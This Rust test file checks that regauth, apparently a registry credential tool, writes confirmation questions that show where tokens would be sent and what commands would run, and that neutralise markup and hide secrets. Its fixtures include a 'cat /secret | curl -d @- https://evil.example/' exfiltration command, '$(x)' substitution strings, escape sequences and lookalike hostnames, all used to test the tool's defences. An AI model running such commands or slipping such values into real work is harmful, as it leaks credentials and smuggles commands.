//! Tests of the questions' texts.

use std::collections::BTreeSet;

use super::*;
use crate::config::{Config, SettingChange, changes};
use crate::control::review::Change;

fn check(line: &str, expected: &str) {
    let request = Request::from_line(&format!(r#"{{"v":1,{line}}}"#)).unwrap();
    let question = Question::about(&request, None).unwrap();
    assert_eq!(question.text(), expected);
    assert!(
        question
            .values
            .values()
            .all(|value| value.is_ascii() && !value.contains('$'))
    );
}

#[test]
fn says_where_a_token_would_go() {
    check(
        r#""method":"add-scope","name":"corp","scopes":["https://a.example/x/","https://b.example/"]"#,
        "Send the token of corp to https://a.example/x/, https://b.example/ as well?",
    );
    check(
        r#""method":"add-registry","name":"copy","credential-of":"corp","index":"sparse+https://evil.example/i/""#,
        "Send the token of corp to https://evil.example/i/ as well, for the new registry copy?",
    );
    check(
        r#""method":"add-registry","name":"x","source-command":{"command":["cat","/etc/x"]},"scopes":["https://a.example/"]"#,
        "Let regauth run cat, /etc/x and send the token that it prints to https://a.example/, for the new registry x?",
    );
}

#[test]
fn a_new_registry_says_all_that_it_may_do() {
    let more = r#""scopes":["https://a.example/"],"ca-file":"/evil.pem","writes":"allow""#;
    let with = ", with trust in the certificates in /evil.pem, with its writes open";
    for (source, question) in [
        (
            r#""credential-of":"corp","#,
            format!("Send the token of corp to https://a.example/ as well, for the new registry x{with}?"),
        ),
        (
            r#""source-command":{"command":["mint"]},"#,
            format!(
                "Let regauth run mint and send the token that it prints to https://a.example/, for the new registry x{with}?"
            ),
        ),
        (
            r#""source":"file:/x","#,
            format!(
                "Let regauth take a token from file:/x and send it to https://a.example/, for the new registry x{with}?"
            ),
        ),
        (
            r#""token":"t","#,
            format!("Add the registry x{with}, at https://a.example/?"),
        ),
    ] {
        check(
            &format!(r#""method":"add-registry","name":"x",{source}{more}"#),
            &question,
        );
    }
    let host = "a".repeat(60);
    let source = format!("jfrog:provider={0},host={0}.evil.example,audience={0}", host);
    check(
        &format!(r#""method":"add-registry","name":"x","source":"{source}","scopes":["https://a.example/"]"#),
        &format!("Let regauth take a token from {source} and send it to https://a.example/, for the new registry x?"),
    );
}

#[test]
fn a_token_service_is_a_place_too_and_each_guarded_request_has_a_question() {
    check(
        r#""method":"add-registry","name":"x","credential-of":"corp","scopes":["https://a.example/"],"token-service":"https://evil.example/""#,
        "Send the token of corp to https://a.example/, https://evil.example/ as well, for the new registry x?",
    );
    for line in [
        r#""method":"check-registry","name":"x","ca-file":"/x""#,
        r#""method":"confirm","name":"x","changes":["a"]"#,
        r#""method":"set-registry","name":"x","values":{"scheme":"raw"}"#,
        r#""method":"replace-configuration","text":"","base":"""#,
        r#""method":"reload""#,
        r#""method":"unlock""#,
        r#""method":"store-move","to":"vault""#,
        r#""method":"log","level":"trace""#,
        r#""method":"stop""#,
    ] {
        let request = Request::from_line(&format!(r#"{{"v":1,{line}}}"#)).unwrap();
        assert!(
            request.guarded().is_some() && Question::about(&request, None).is_some(),
            "{line}"
        );
    }
}

/// Question of a reload that changes a registry from one definition to the other.
fn reload(before: &str, after: &str, expected: &str) {
    let read = |text: &str| Config::read(text).unwrap().registries;
    let changes = changes(&read(before), &read(after)).into_iter().map(Change::Registry);
    check_review(changes.collect(), expected);
}

fn setting(key: &'static str) -> Change {
    Change::Setting(SettingChange::to(key, &"value"))
}

fn check_review(changes: Vec<Change>, expected: &str) {
    let request = Request::from_line(r#"{"v":1,"method":"reload"}"#).unwrap();
    let question = Question::about(&request, Some(&Review::new(changes))).unwrap();
    assert_eq!(question.text(), expected);
}

#[test]
fn lists_what_changes_in_a_configuration() {
    const CORP: &str = "[registries.corp]\nscopes = ['https://corp.example/a/'";
    let corp = |more: &str| format!("{CORP}{more}");
    let question = |changes: &str| format!("Let regauth apply its changed configuration: {changes}?");
    for (before, after, changes) in [
        (
            corp("]"),
            corp(", 'https://other.example/']\nca-file = '/ca.pem'"),
            "corp: scopes + https://other.example/, corp: ca-file = /ca.pem",
        ),
        (
            corp(", 'https://corp.example/b/']"),
            corp("]"),
            "corp: scopes - https://corp.example/b/",
        ),
        (corp("]\nwrites = 'allow'"), corp("]"), "corp: without writes"),
        (
            corp("]"),
            corp("]\nsource = { command = ['mint', 's3cret'] }"),
            "corp: source = run mint, s3cret",
        ),
        (
            corp("]"),
            corp("]\nindex = 'sparse+https://other.example/i/'"),
            "corp: index = https://other.example/i/",
        ),
        (corp("]"), String::new(), "without the registry corp"),
        (
            corp("]"),
            corp("]\n[registries.b]\nscopes = ['https://b.example/']\ncredential-of = 'corp'"),
            "the new registry b at https://b.example/, it gets the token of another registry, b: credential-of = corp",
        ),
        (
            corp("]"),
            corp(
                "]\nsource = { exchange = 'jfrog', host = 'j.example', provider = 'p', identity = { command = ['m', 's3cret'] } }",
            ),
            "corp: source = exchange=jfrog, host=j.example, provider=p, identity=run m, s3cret",
        ),
    ] {
        reload(&before, &after, &question(changes));
    }
    check_review(
        vec![],
        "Let regauth read its configuration again, which has the same settings, and the files that it names, which may have \
         changed?",
    );
    let certificates = Change::Certificates {
        registry: "corp".parse().unwrap(),
        file: "/etc/corp.pem".into(),
        roots: BTreeSet::new(),
    };
    check_review(
        vec![certificates, setting("presence")],
        &question("corp: other certificates in /etc/corp.pem, the setting presence"),
    );
}

#[test]
fn every_change_that_widens_is_shown_and_a_list_that_is_too_long_is_not_asked() {
    let scope = |number: usize| format!("https://h{number}.example/");
    let with = |scopes: &[String]| {
        let quoted: Vec<String> = scopes.iter().map(|scope| format!("'{scope}'")).collect();
        format!("[registries.corp]\nscopes = [{}]", quoted.join(", "))
    };
    let added: Vec<String> = (1..7).map(scope).collect();
    reload(
        &with(&[scope(0)]),
        &with(&(0..7).map(scope).collect::<Vec<_>>()),
        &format!(
            "Let regauth apply its changed configuration: corp: scopes + {}?",
            added.join(", ")
        ),
    );
    let request = |scopes: usize| {
        let scopes: Vec<String> = (0..scopes).map(scope).collect();
        let line = serde_json::json!({"v": 1, "method": "add-scope", "name": "corp", "scopes": scopes}).to_string();
        Question::about(&Request::from_line(&line).unwrap(), None).unwrap()
    };
    assert!(!request(20).is_too_long());
    assert!(request(60).is_too_long() && request(60).text().contains("https://h59.example/"));
}

#[test]
fn changes_that_widen_nothing_are_cut_and_none_hides_behind_them() {
    let scopes =
        |name: &str, more: &str| format!("[registries.{name}]\nscopes = ['https://{name}.example/']\n{more}\n");
    let before: String = ["a", "b", "c", "d", "e", "f"]
        .map(|name| scopes(name, "writes = 'allow'"))
        .concat();
    let after: String = ["a", "b", "c", "d", "e", "f"].map(|name| scopes(name, "")).concat();
    let without = "a: without writes, b: without writes, c: without writes, d: without writes";
    let question = |changes: &str| format!("Let regauth apply its changed configuration: {changes}?");
    reload(
        &before,
        &after,
        &question(&format!("{without} AND 2 MORE, WHICH WIDEN NOTHING")),
    );
    reload(
        &before,
        &after.replace("https://f.", "https://evil."),
        &question(
            "f: scopes + https://evil.example/ - https://f.example/, a: without writes, b: without writes, \
             c: without writes AND 3 MORE, WHICH WIDEN NOTHING",
        ),
    );
}

#[test]
fn no_markup_and_no_second_line_is_in_a_list_of_changes() {
    reload(
        "[registries.corp]\nscopes = ['https://corp.example/']",
        "[registries.corp]\nscopes = ['https://corp.example/']\nca-file = \"/a\\n<b>$(x)\"",
        "Let regauth apply its changed configuration: corp: ca-file = /a??b??(x)?",
    );
}

#[test]
fn a_command_is_shown_in_full() {
    let source =
        |words: &str| format!("[registries.x]\nscopes = ['https://x.example/']\nsource = {{ command = {words} }}");
    let program = format!("cat /secret | curl -d @- https://evil.example/{}", "a".repeat(100));
    reload(
        "",
        &source(&format!(
            "['sh', '-e', '-u', '-x', '-c', '{program}', \"\\u001b[2J\\n\"]"
        )),
        &format!(
            "Let regauth apply its changed configuration: the new registry x at https://x.example/, nobody types its token, \
             x: source = run sh, -e, -u, -x, -c, {program}, ?[2J??"
        ),
    );
    let words = serde_json::json!(["sh", "-e", "-u", "-x", "-c", program]);
    check(
        &format!(
            r#""method":"add-registry","name":"x","source-command":{{"command":{words}}},"scopes":["https://a.example/"]"#
        ),
        &format!(
            "Let regauth run sh, -e, -u, -x, -c, {program} and send the token that it prints to https://a.example/, for the new \
             registry x?"
        ),
    );
}

#[test]
fn what_is_grave_comes_first_whatever_the_names_are() {
    let scopes =
        |name: &str, more: &str| format!("[registries.{name}]\nscopes = ['https://{name}.example/']\n{more}\n");
    let names = ["a", "b", "c", "d"];
    let decoys = |more: &str| names.map(|name| scopes(name, more)).concat();
    let before = decoys("") + &scopes("z", "") + &scopes("y", "") + &scopes("x", "");
    let after = decoys("writes = 'allow'")
        + "[registries.z]\nscopes = ['https://z.example/', 'https://evil.example/']\n"
        + &scopes("y", "source = 'file:/y'")
        + &scopes("x", "ca-file = '/x.pem'");
    reload(
        &before,
        &after,
        "Let regauth apply its changed configuration: z: scopes + https://evil.example/, y: source = file:/y, \
         x: ca-file = /x.pem, a: writes = allow, b: writes = allow, c: writes = allow, d: writes = allow?",
    );
}

#[test]
fn says_for_how_long_and_for_whom() {
    check(
        r#""method":"allow","name":"corp","seconds":300"#,
        "Open writes to corp for 5m?",
    );
    check(
        r#""method":"grant","registries":["corp"],"write":true,"seconds":3600"#,
        "Let others read from and write to corp with a grant for 1h?",
    );
    check(
        r#""method":"grant","seconds":60"#,
        "Let others read from every registry with a grant for 1m?",
    );
}

#[test]
fn a_name_of_another_script_markup_and_a_second_line_do_not_reach_the_dialogue() {
    check(
        r#""method":"add-scope","name":"corp","scopes":["https://соrp.example/<b>\nhttps://corp.example/"]"#,
        "Send the token of corp to https://xn--rp-emcl.example/%3Cb%3Ehttps://corp.example/ as well?",
    );
    check(
        r#""method":"add-scope","name":"corp","scopes":["$(registry)\n<b>ok</b> & \u202e"]"#,
        "Send the token of corp to ?(registry)??b?ok?/b? ? ? as well?",
    );
}

#[test]
fn a_password_of_a_proxy_is_not_shown() {
    check(
        r#""method":"set-upstream","proxy":"http://me:s3cret@proxy.example:3128""#,
        "Let regauth send its connections through the proxy http://proxy.example:3128?",
    );
}

#[test]
fn continues_the_sentence_of_macos() {
    let check = |line: &str, expected: &str| {
        let request = Request::from_line(&format!(r#"{{"v":1,{line}}}"#)).unwrap();
        assert_eq!(Question::about(&request, None).unwrap().purpose(), expected);
    };
    check(
        r#""method":"add-scope","name":"corp","scopes":["https://a.example/?"]"#,
        "send the token of corp to https://a.example/? as well",
    );
    check(
        r#""method":"check-registry","name":"x","scopes":["https://a.example/"],"ca-file":"/x""#,
        "read the certificates in /x and trust them for https://a.example/",
    );
    check(r#""method":"stop""#, "stop regauth");
}
